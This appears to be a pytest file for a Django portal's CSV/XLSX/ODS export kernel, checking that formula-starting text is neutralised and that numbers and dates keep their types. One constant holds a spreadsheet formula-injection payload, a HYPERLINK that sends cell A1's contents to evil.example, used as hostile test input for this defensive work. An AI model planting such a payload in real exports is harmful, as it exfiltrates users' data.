"""The exports kernel (cucs_portal/exports.py): one table, described once,
downloaded as CSV, XLSX or ODS; every text cell safe against formulas in each,
numbers and dates kept what they are."""

import csv
import datetime
import io
import zipfile
from decimal import Decimal

import pytest
from django.http import StreamingHttpResponse
from django.test import RequestFactory
from django.views import View
from odfdo import Document
from openpyxl import load_workbook

from cucs_portal.exports import (
    FORMULA_STARTS,
    WRITERS,
    Column,
    Table,
    TableExportMixin,
    export_response,
)

HOSTILE = 'HYPERLINK("http://evil.example/?"&A1;"clic")'


def table(rows, columns=("Nom", "Montant")) -> Table:
    return Table(title="Feuille", columns=columns, rows=rows, filename="essai")


def csv_rows(response) -> list[list[str]]:
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff")), delimiter=";"))


def xlsx_sheet(response):
    return load_workbook(io.BytesIO(response.content)).active


def ods_table(response):
    return Document(io.BytesIO(response.content)).body.get_table(0)


def test_the_formats_are_csv_xlsx_and_ods():
    assert set(WRITERS) == {"csv", "xlsx", "ods"}


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_a_csv_cell_that_would_start_a_formula_gets_an_apostrophe(start):
    """= + - @, a tab or a carriage return first: the spreadsheet shows the
    text, it does not run it."""
    typed = f"{start}{HOSTILE}"

    rows = csv_rows(export_response(table([[typed, "Rive-de-Gier"]]), "csv"))

    assert rows[1] == [f"'{typed}", "Rive-de-Gier"]


def test_csv_headers_are_made_safe_too():
    rows = csv_rows(export_response(table([], columns=["=Nom", "a=b"]), "csv"))

    assert rows == [["'=Nom", "a=b"]]


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_an_xlsx_cell_that_would_start_a_formula_is_text_with_the_quote_prefix(
    start,
):
    """Stored as text, as typed (no apostrophe shown), with the quote prefix
    that keeps it text when edited: never a formula."""
    typed = f"{start}{HOSTILE}"

    sheet = xlsx_sheet(export_response(table([[typed, "Rive-de-Gier"]]), "xlsx"))

    hostile, harmless = sheet["A2"], sheet["B2"]
    assert hostile.data_type == "s"
    # XML reads a bare carriage return back as a line feed.
    assert hostile.value in (typed, typed.replace("\r", "\n"))
    assert hostile.quotePrefix
    assert harmless.value == "Rive-de-Gier"
    assert not harmless.quotePrefix
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_xlsx_headers_are_text_and_bold():
    sheet = xlsx_sheet(export_response(table([], columns=["=Nom", "Montant"]), "xlsx"))

    assert sheet["A1"].data_type == "s"
    assert sheet["A1"].value == "=Nom"
    assert sheet["A1"].quotePrefix
    assert sheet["B1"].font.b


def test_csv_numbers_and_dates_are_written_as_a_french_spreadsheet_reads_them():
    """A decimal is an amount (two decimals, a decimal comma, no thousands), a
    date reads 10/05/2007; a negative number is a number, not a formula."""
    row = [
        42,
        -3,
        Decimal("10500.5"),
        0.5,
        datetime.date(2007, 5, 10),
        datetime.datetime(2007, 5, 10, 9, 30),
        None,
    ]

    rows = csv_rows(export_response(table([row], columns=list("ABCDEFG")), "csv"))

    assert rows[1] == [
        "42",
        "-3",
        "10500,50",
        "0,5",
        "10/05/2007",
        "10/05/2007 09:30",
        "",
    ]


def test_xlsx_numbers_stay_numbers_and_dates_dates():
    row = [42, -3, Decimal("10500.5"), datetime.date(2007, 5, 10), None, "12"]

    sheet = xlsx_sheet(export_response(table([row], columns=list("ABCDEF")), "xlsx"))

    integer, negative, amount, day, empty, text = sheet[2]
    assert (integer.value, integer.data_type) == (42, "n")
    assert (negative.value, negative.data_type) == (-3, "n")
    assert not negative.quotePrefix
    assert (amount.value, amount.data_type) == (10500.5, "n")
    assert amount.number_format == "#,##0.00"
    assert day.is_date
    assert day.value == datetime.datetime(2007, 5, 10)
    assert day.number_format == "DD/MM/YYYY"
    assert empty.value is None
    assert (text.value, text.data_type) == ("12", "s")


def test_the_csv_streams_with_a_bom_and_semicolons():
    """Streamed (a long journal is never held whole) in UTF-8 with a BOM and ";"
    as separator: what French spreadsheets open with their accents right. The
    rows are read only as the download goes."""
    read = []

    def rows():
        for name in ("Zoé Élue", "Anne; Bouleau"):
            read.append(name)
            yield [name, 1]

    response = export_response(table(rows()), "csv")

    assert isinstance(response, StreamingHttpResponse)
    assert read == []
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="essai.csv"'
    content = b"".join(response.streaming_content)
    assert content.startswith("\ufeff".encode())
    assert content.decode("utf-8") == (
        '\ufeffNom;Montant\r\nZoé Élue;1\r\n"Anne; Bouleau";1\r\n'
    )


def test_the_xlsx_has_its_sheet_name_widths_and_a_frozen_header():
    columns = [Column("Nom", width=30), Column("Montant")]
    exported = Table(
        title="Programmation : 2007/2008", columns=columns, rows=[], filename="f"
    )

    response = export_response(exported, "xlsx")

    assert response["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    assert response["Content-Disposition"] == 'attachment; filename="f.xlsx"'
    sheet = xlsx_sheet(response)
    assert sheet.title == "Programmation - 2007-2008"
    assert sheet.column_dimensions["A"].width == 30
    assert sheet.freeze_panes == "A2"


class Export(TableExportMixin, View):
    def export_table(self):
        return table([["=1+1", 2]])


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_an_ods_cell_that_would_start_a_formula_is_a_string_cell(start):
    """A string cell, its text as typed: an ODS cell is a formula only through
    its table:formula attribute, which the writer never writes."""
    typed = f"{start}{HOSTILE}"

    response = export_response(table([[typed, "Rive-de-Gier"]]), "ods")

    hostile, harmless = ods_table(response).get_row(1).traverse()
    assert (hostile.type, hostile.value) == ("string", typed)
    assert hostile.formula is None
    assert (harmless.type, harmless.value) == ("string", "Rive-de-Gier")
    content = zipfile.ZipFile(io.BytesIO(response.content)).read("content.xml")
    assert b"table:formula" not in content


def test_ods_headers_are_bold_string_cells():
    response = export_response(table([], columns=["=Nom", "Montant"]), "ods")

    sheet = ods_table(response)
    first, second = sheet.get_row(0).traverse()
    assert (first.type, first.value, first.formula) == ("string", "=Nom", None)
    assert second.value == "Montant"
    style = Document(io.BytesIO(response.content)).get_style("table-cell", first.style)
    assert style.get_properties(area="text")["fo:font-weight"] == "bold"


def test_ods_numbers_stay_numbers_and_dates_dates():
    row = [
        42,
        -3,
        Decimal("10500.5"),
        datetime.date(2007, 5, 10),
        datetime.datetime(2007, 5, 10, 9, 30),
        None,
        "12",
        "Deux lignes\n  et\tune tabulation",
    ]

    sheet = ods_table(export_response(table([row], columns=list("ABCDEFGH")), "ods"))

    cells = sheet.get_row(1).traverse()
    integer, negative, amount, day, moment, empty, text, lines = cells
    assert (integer.type, integer.value) == ("float", 42)
    assert (negative.type, negative.value, negative.formula) == ("float", -3, None)
    assert (amount.type, amount.value, amount.style) == (
        "float",
        Decimal("10500.5"),
        "ce-amount",
    )
    assert (day.type, day.value, day.style) == (
        "date",
        datetime.date(2007, 5, 10),
        "ce-date",
    )
    assert moment.type == "date"
    assert moment.value == datetime.datetime(2007, 5, 10, 9, 30)
    assert empty.value is None
    assert (text.type, text.value) == ("string", "12")
    assert lines.value == "Deux lignes\n  et\tune tabulation"


def test_an_aware_datetime_is_written_as_the_portal_shows_it(settings):
    settings.TIME_ZONE = "Europe/Paris"
    moment = datetime.datetime(2007, 5, 10, 7, 30, tzinfo=datetime.UTC)

    sheet = ods_table(export_response(table([[moment]], columns=["A"]), "ods"))

    assert sheet.get_cell("A2").value == datetime.datetime(2007, 5, 10, 9, 30)


def test_ods_control_characters_are_dropped():
    sheet = ods_table(export_response(table([["a\x00b\x1fc"]], columns=["A"]), "ods"))

    assert sheet.get_cell("A2").value == "abc"


def test_the_ods_has_its_sheet_name_and_widths():
    columns = [Column("Nom", width=30), Column("Montant")]
    exported = Table(
        title="Programmation : 2007/2008", columns=columns, rows=[], filename="f"
    )

    response = export_response(exported, "ods")

    assert response["Content-Type"] == "application/vnd.oasis.opendocument.spreadsheet"
    assert response["Content-Disposition"] == 'attachment; filename="f.ods"'
    document = Document(io.BytesIO(response.content))
    sheet = document.body.get_table(0)
    assert sheet.name == "Programmation - 2007-2008"
    column = document.get_style("table-column", sheet.get_column(0).style)
    assert column.get_properties()["style:column-width"] == "6.00cm"


@pytest.mark.parametrize("export_format", ["csv", "xlsx", "ods"])
def test_a_view_gets_the_format_its_url_names(export_format):
    view = Export.as_view(export_format=export_format)

    response = view(RequestFactory().get("/"))

    expected = f'attachment; filename="essai.{export_format}"'
    assert response["Content-Disposition"] == expected
